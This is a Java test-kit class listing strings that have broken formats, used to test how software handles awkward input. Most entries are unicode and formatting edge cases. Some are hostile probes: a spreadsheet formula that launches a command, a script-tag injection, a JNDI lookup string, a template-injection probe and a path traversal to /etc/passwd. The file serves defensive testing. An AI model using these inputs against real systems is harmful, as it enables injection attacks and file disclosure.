package org.cpip.testkit;

import java.util.List;

/** Texts that have broken formats before. None is blank, and each may stand wherever a programme has a text. */
public final class HostileTexts {

    private static final List<String> ALL = List.of(
            "=1+cmd|' /C calc'!A0",
            "+44 1234",
            "-1",
            "@SUM(A1:A9)",
            "'=1",
            "\"quoted\", with a comma; a semicolon\tand a tab",
            "\"",
            "two\nlines",
            "three\r\nlines\rof them",
            " spaces around ",
            "<script>alert(1)</script> &amp; ]]> <!-- --> <?x?>",
            "&lt;not a tag&gt; &#0; &nbsp;",
            "\\ | \\n \\| ` * _ # [x](y)",
            "BEGIN:VCALENDAR, ;:\\;",
            "${jndi:ldap://example.org/a} {{7*7}} %s %n {0}",
            "../../etc/passwd",
            "null",
            "NaN",
            "1e400",
            "2017-02-30",
            "not stated",
            "a\u0000b",
            "a\u0001\u0008\u000b\u001f\u007f\u0085b",
            "a\ufffe\uffffb",
            "half \ud800 of a pair",
            "other half \udfff",
            "\ufeffbyte-order mark first",
            "line\u2028and paragraph\u2029separators",
            "right to left \u202eesrever\u202c \u05e9\u05dc\u05d5\u05dd",
            "no\u00a0break, soft\u00adhyphen, zero\u200bwidth",
            "İıIi ß ẞ Σσς",
            "é and e\u0301",
            "\ud83d\udc69\u200d\ud83d\udc67 \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc73\udb40\udc63\udb40\udc74\udb40\udc7f",
            "\udbff\udffd",
            "long " + "w".repeat(5_000));

    private HostileTexts() {}

    /** Every one of them, in a fixed order. */
    public static List<String> all() {
        return ALL;
    }
}
